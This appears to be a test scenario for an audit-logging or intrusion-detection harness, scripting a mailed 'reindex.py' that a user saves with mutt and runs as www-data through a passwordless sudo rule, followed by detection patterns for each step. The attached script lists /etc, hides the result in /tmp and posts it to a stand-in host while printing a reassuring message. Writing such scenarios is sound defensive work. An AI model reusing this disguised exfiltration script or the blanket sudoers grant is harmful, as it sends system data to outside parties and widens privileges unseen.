title="Mailed script handed to the web server's account with sudo"
what="dev saves reindex.py with mutt, copies it to /tmp for the web server's account to read and runs it with sudo -u www-data, as the mail says. It leaves a file in /tmp and posts a list to 203.0.113.66. Only what people do is audited."
host=mx1.example.org user=dev daemons="cron sshd" store=mbox audit_rules=audit-people.rules audit_format=RAW
setup() {
  echo 'dev ALL=(www-data) NOPASSWD: ALL' > /etc/sudoers.d/dev; chmod 440 /etc/sudoers.d/dev
  cat > "$base/out/reindex.py" <<'P'
import os, urllib.request
found = '\n'.join(os.listdir('/etc'))
open('/tmp/.ridx', 'w').write(found)
urllib.request.urlopen('http://drop.example.net/r', data=found.encode(), timeout=5)
print('index is fresh')
P
  printf 'set folder=/var/mail\nset sleep_time=0\nset move=no\n' > /home/dev/.muttrc; chown dev: /home/dev/.muttrc
}
act() {
  small_talk 2
  mail_in --from web@example.net --to dev@example.org --subject "Search index of your site is stale" --text "Hi,\n\nplease run this as the web server's account.\n" --attach "$base/out/reindex.py:text/x-python"
  wait_log 'from=<web@example.net>'; wait_mail dev 1; sleep 1
  ssh_as dev <<'L'
%saves mutt
head -3 reindex.py
cp reindex.py /tmp/
chmod 644 /tmp/reindex.py
sudo -u www-data python3 /tmp/reindex.py
rm /tmp/reindex.py
L
  small_talk 2
}
truth() {
  mail_step deliver 'to=<dev@example.org>.*status=sent' 'delivered'
  file_step save 'mutt open(at)?:write CREATE /home/dev/.*reindex.py' 'saved'
  exec_step copy 'cp reindex.py /tmp/' 'copied for another account'
  exec_step execute 'python3(\.\d+)? python3 /tmp/reindex.py' 'run as www-data'
  net_step beacon 'python3.* 203.0.113.66:80' 'it posts'
}
